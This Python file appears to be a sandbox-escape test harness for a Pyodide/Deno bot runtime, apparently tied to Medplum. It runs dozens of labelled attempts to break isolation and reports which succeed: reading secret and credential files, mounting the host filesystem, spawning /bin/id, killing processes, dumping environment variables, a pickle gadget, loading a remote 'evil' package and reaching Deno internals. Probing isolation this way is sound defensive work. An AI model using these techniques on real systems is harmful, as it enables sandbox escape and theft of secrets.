"""What a Python bot tries to get out of its process. Each attempt returns what it got; `WORKED` begins what counts."""

import asyncio
import os

ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def worked(value):
    return f"WORKED {str(value)[:200]}"


def read(path):
    with open(path) as file:
        return file.read()


# Files, by Python ---------------------------------------------------------------------------------------------------


@attempt
def open_secret(t):
    return worked(read(t["secret"]))


@attempt
def open_settings(t):
    return worked(read(t["settings"]))


@attempt
def open_machine_files(t):
    return worked([read(path) for path in ("/etc/hostname", "/etc/os-release", "/proc/self/environ")])


@attempt
def list_home(t):
    return worked(os.listdir(t["home"]))


@attempt
def write_file_outside(t):
    with open(t["secret"], "w") as file:
        file.write("overwritten")
    return (
        "written somewhere"  # a file of the same name in its own memory; the host's is looked at afterwards
    )


@attempt
def proc_of_victim(t):
    return worked(os.listdir(f"/proc/{t['victim']}"))


@attempt
def mount_host(t):
    import pyodide_js

    pyodide_js.FS.mkdir("/host")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/host")
    return worked(read("/host/etc/hostname"))


@attempt
def mount_host_by_object(t):
    import js
    import pyodide_js

    pyodide_js.FS.mkdir("/host2")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, js.JSON.parse('{"root": "/"}'), "/host2")
    return worked(os.listdir("/host2") and read("/host2" + t["secret"]))


# Processes and the network, by Python ---------------------------------------------------------------------------------


@attempt
def subprocess_run(t):
    import subprocess

    return worked(subprocess.run(["/bin/id"], capture_output=True, check=True).stdout)


@attempt
def fork(t):
    return worked(os.fork())


@attempt
def exec_program(t):
    os.execv("/bin/id", ["id"])
    return worked("exec")


@attempt
def posix_spawn(t):
    return worked(os.posix_spawn("/bin/id", ["id"], {}))


@attempt
def kill_victim(t):
    os.kill(t["victim"], 9)
    return "sent somewhere"  # signals stay inside; that the victim lives is looked at afterwards


@attempt
def multiprocess(t):
    import multiprocessing

    process = multiprocessing.Process(target=print)
    process.start()
    return worked(process.pid)


@attempt
def threads(t):
    import threading

    thread = threading.Thread(target=print)
    thread.start()
    return worked("thread")


@attempt
def connect(t):
    import socket

    with socket.create_connection(("127.0.0.1", t["port"]), 1) as connection:
        connection.sendall(b"hello")
        return worked(connection.recv(10))


@attempt
def connect_local(t):
    import socket

    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(t["socket"])
        return worked("connected")


@attempt
def resolve(t):
    import socket

    address = socket.gethostbyname("example.com")
    return address if address.startswith(("172.29.", "127.")) else worked(address)  # Emscripten makes them up


@attempt
def urlopen(t):
    import urllib.request

    return worked(urllib.request.urlopen(f"http://127.0.0.1:{t['port']}/", timeout=1).read())


@attempt
async def open_url(t):
    from pyodide.http import pyfetch

    return worked(await (await pyfetch(f"http://127.0.0.1:{t['port']}/")).string())


@attempt
async def open_file_url(t):
    from pyodide.http import pyfetch

    return worked(await (await pyfetch(f"file://{t['secret']}")).string())


@attempt
async def install_package(t):
    import pyodide_js

    await pyodide_js.loadPackage("https://example.com/evil-1.0-py3-none-any.whl")
    import evil

    return worked(evil)


# Native code ----------------------------------------------------------------------------------------------------------


@attempt
def ctypes_libc(t):
    import ctypes

    libc = ctypes.CDLL(None)
    descriptor = libc.open(t["secret"].encode(), 0)
    if descriptor < 0:
        return "no file"
    return worked(os.read(descriptor, 100))


@attempt
def ctypes_library(t):
    import ctypes

    return worked(ctypes.CDLL("/lib/x86_64-linux-gnu/libc.so.6"))


@attempt
def pickle_system(t):
    import pickle

    class Evil:
        def __reduce__(self):
            return (read, (t["secret"],))

    return worked(pickle.loads(pickle.dumps(Evil())))


@attempt
def environment(t):
    return dict(os.environ)


# JavaScript from Python -----------------------------------------------------------------------------------------------


def run(code):
    from pyodide.code import run_js

    return run_js(code)


@attempt
def js_read_file(t):
    import js

    return worked(js.Deno.readTextFileSync(t["secret"]))


@attempt
def js_read_runtime(t):
    import js

    return worked(js.Deno.readTextFileSync(f"{t['runtime']}/main.mjs"))


@attempt
def js_write_file(t):
    import js

    js.Deno.writeTextFileSync(t["secret"], "overwritten")
    return worked("written")


@attempt
def js_chmod(t):
    import js

    js.Deno.chmodSync(t["secret"], 0o777)
    return worked("changed")


@attempt
def js_environment(t):
    import js

    return worked(js.Deno.env.toObject())


@attempt
def js_command(t):
    return worked(run('new Deno.Command("/bin/id").outputSync().stdout'))


@attempt
async def js_connect(t):
    return worked(await run(f"Deno.connect({{hostname: '127.0.0.1', port: {t['port']}}})"))


@attempt
def js_listen(t):
    return worked(run("Deno.listen({port: 0})"))


@attempt
def js_dlopen(t):
    return worked(run('Deno.dlopen("libc.so.6", {getpid: {parameters: [], result: "i32"}}).symbols.getpid()'))


@attempt
def js_kill(t):
    run(f"Deno.kill({t['victim']}, 'SIGKILL')")
    return worked("killed")


@attempt
async def js_fetch(t):
    return worked(await (await run(f"fetch('http://127.0.0.1:{t['port']}/')")).text())


@attempt
async def js_import_file(t):
    return worked(await run(f"import('file://{t['settings']}', {{with: {{type: 'text'}}}})"))


@attempt
async def js_import_json(t):
    return worked((await run(f"import('file://{t['secret']}', {{with: {{type: 'json'}}}})")).default)


@attempt
async def js_import_bytes(t):
    return worked((await run(f"import('file://{t['secret']}', {{with: {{type: 'bytes'}}}})")).default)


@attempt
async def js_import_remote(t):
    return worked(await run("import('https://example.com/x.js')"))


@attempt
async def js_node_fs(t):
    return worked((await run("import('node:fs')")).readFileSync(t["secret"], "utf8"))


@attempt
def js_builtin_fs(t):
    return worked(run("process.getBuiltinModule('fs')").readFileSync(t["secret"], "utf8"))


@attempt
def js_builtin_child(t):
    return worked(run("process.getBuiltinModule('child_process')").execSync("id"))


@attempt
async def js_builtin_net(t):
    from pyodide.ffi import create_proxy

    socket = run("process.getBuiltinModule('net')").connect(t["port"], "127.0.0.1")
    answered = asyncio.get_running_loop().create_future()
    socket.on("connect", create_proxy(lambda *rest: answered.set_result(worked("connected"))))
    socket.on("error", create_proxy(lambda error, *rest: answered.set_result(str(error))))
    return await asyncio.wait_for(answered, 2)


@attempt
def js_process_environment(t):
    return worked(dict(run("Object.assign({}, process.env)").to_py()).get("PATH") or 1 / 0)


@attempt
def js_process_kill(t):
    run("process").kill(t["victim"], "SIGKILL")
    return worked("killed")


@attempt
def js_process_binding(t):
    spawn = "{file: '/bin/id', args: ['id'], envPairs: [], stdio: [{type: 'pipe', readable: true, writable: true}]}"
    return worked(run(f"process.binding('spawn_sync').spawn({spawn})"))


@attempt
async def js_permissions(t):
    states = [
        (await run(f"Deno.permissions.request({{name: '{name}'}})")).state
        for name in ("read", "net", "run", "env")
    ]
    return worked(states) if "granted" in states else states


@attempt
def js_storage(t):
    run("localStorage.setItem('x', 'left behind')")
    return worked("stored")


@attempt
async def js_cache(t):
    await run("caches.open('x')")
    return worked("opened")


@attempt
def js_inspector(t):
    run("process.getBuiltinModule('inspector').open(0, '127.0.0.1', false)")
    return worked(run("process.getBuiltinModule('inspector').url()"))


@attempt
def js_deno_core(t):
    core = run("Deno[Deno.internal].core")
    return worked(core.ops.op_read_file_text_sync(t["secret"]))


@attempt
def js_stdin(t):
    return worked(run("Deno.stdin.fd ?? Deno.stdin.readSync"))


@attempt
def js_open_descriptors(t):
    return worked(run("process.getBuiltinModule('fs').readlinkSync('/proc/self/fd/0')"))


@attempt
def js_sqlite(t):
    database = run("new (process.getBuiltinModule('sqlite').DatabaseSync)('/tmp/left-behind.db')")
    database.exec("CREATE TABLE x (y)")
    return worked("database")


@attempt
def js_compile_cache(t):
    return worked(run("process.getBuiltinModule('module').createRequire('/')('" + t["secret"] + "')"))


async def handler(medplum, event):
    results = {}
    for name, function in ATTEMPTS.items():
        try:
            value = function(event.input)
            if asyncio.iscoroutine(value):
                value = await asyncio.wait_for(value, 3)
            results[name] = value if isinstance(value, dict) else str(value)
        except BaseException as error:  # noqa: BLE001 - whatever stops it
            results[name] = f"{type(error).__name__}: {str(error)[:300]}"
    return results
